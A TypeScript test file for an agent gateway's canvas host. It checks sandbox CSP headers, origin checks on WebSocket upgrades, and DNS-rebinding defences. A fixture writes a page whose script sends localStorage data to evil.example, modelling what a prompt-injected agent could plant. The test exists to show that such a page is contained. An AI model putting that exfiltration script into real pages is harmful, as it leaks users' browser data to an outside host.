import assert from "node:assert/strict";
import { CANVAS_CSP } from "../../src/canvas/mod.ts";
import { startTestGateway, TEST_TOKEN } from "../_helpers/gateway.ts";
import { within } from "../_helpers/limit.ts";
import { BASE, get } from "./_canvas.ts";

/** Sends a WebSocket upgrade for `path` with `origin` and returns the status line. */
async function upgrade(port: number, path: string, origin: string): Promise<string> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  try {
    await conn.write(new TextEncoder().encode(
      `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: ${origin}\r\n` +
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n" +
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    ));
    const buf = new Uint8Array(512);
    const n = await within(conn.read(buf), 10_000, "the upgrade answer");
    return new TextDecoder().decode(buf.subarray(0, n ?? 0)).split("\r\n")[0];
  } finally {
    conn.close();
  }
}

Deno.test("canvas host: pages on the gateway port are sandboxed away from the control UI's origin", async () => {
  // With a canvas port of its own too: the gateway port still serves canvas.
  await using gw = await startTestGateway({ config: { ...BASE, canvasHost: { port: 0 } } });
  const root = gw.proc.instance.settings.canvas.root;
  // What a prompt-injected agent could write into its workspace.
  await Deno.mkdir(root, { recursive: true });
  await Deno.writeTextFile(
    `${root}/steal.html`,
    "<script>fetch('//evil.example/?' + localStorage.length)</script>",
  );
  await Deno.writeTextFile(`${root}/pic.svg`, "<svg xmlns='http://www.w3.org/2000/svg'/>");
  for (const path of ["/__openclaw__/canvas/steal.html", "/__openclaw__/canvas/pic.svg"]) {
    const res = await get(gw.port, path);
    assert.equal(res.status, 200, path);
    const csp = res.headers.get("content-security-policy") ?? "";
    assert.equal(csp, CANVAS_CSP, path);
    assert.match(csp, /^sandbox\b/);
    // allow-same-origin would hand the page the UI's origin back.
    assert.doesNotMatch(csp, /allow-same-origin|allow-top-navigation/);
  }
  // The canvas port is another origin already: pages keep theirs (module
  // scripts and fetch of their own files need it).
  const own = gw.proc.instance.canvasPort()!;
  assert.notEqual(own, gw.port);
  const res = await get(own, "/__openclaw__/canvas/steal.html");
  assert.equal(res.status, 200);
  assert.equal(res.headers.get("content-security-policy"), null);
});

Deno.test("canvas host: a sandboxed page (Origin null) keeps live reload but not the control plane", async () => {
  await using gw = await startTestGateway({ config: BASE });
  assert.match(await upgrade(gw.port, "/__openclaw__/ws", "null"), / 101 /);
  assert.match(await upgrade(gw.port, "/__openclaw__/ws", "http://evil.example"), / 403 /);
  assert.match(await upgrade(gw.port, "/", "null"), / 403 /);
});

/** A raw `GET path` from loopback naming `host`; the status line. */
async function getAs(port: number, path: string, host: string): Promise<string> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  try {
    await conn.write(new TextEncoder().encode(
      `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    ));
    const buf = new Uint8Array(512);
    const n = await within(conn.read(buf), 10_000, "the answer");
    return new TextDecoder().decode(buf.subarray(0, n ?? 0)).split("\r\n")[0];
  } finally {
    conn.close();
  }
}

Deno.test("canvas host: loopback trust needs the gateway's own host name (DNS rebinding reads nothing)", async () => {
  await using gw = await startTestGateway({
    config: {
      ...BASE,
      gateway: { ...BASE.gateway, controlUi: { allowedOrigins: ["https://box.example"] } },
    },
  });
  const page = "/__openclaw__/canvas/";
  // A page on attacker.example whose name now resolves to 127.0.0.1.
  assert.match(await getAs(gw.port, page, `attacker.example:${gw.port}`), / 401 /);
  for (const host of [`127.0.0.1:${gw.port}`, `localhost:${gw.port}`, `[::1]:${gw.port}`]) {
    assert.match(await getAs(gw.port, page, host), / 200 /, host);
  }
  // A name the operator listed in allowedOrigins is theirs.
  assert.match(await getAs(gw.port, page, "box.example"), / 200 /);
  // With the secret any host is fine (a remote browser through a proxy).
  const authed = await get(gw.port, page, { headers: { authorization: `Bearer ${TEST_TOKEN}` } });
  assert.equal(authed.status, 200);
});
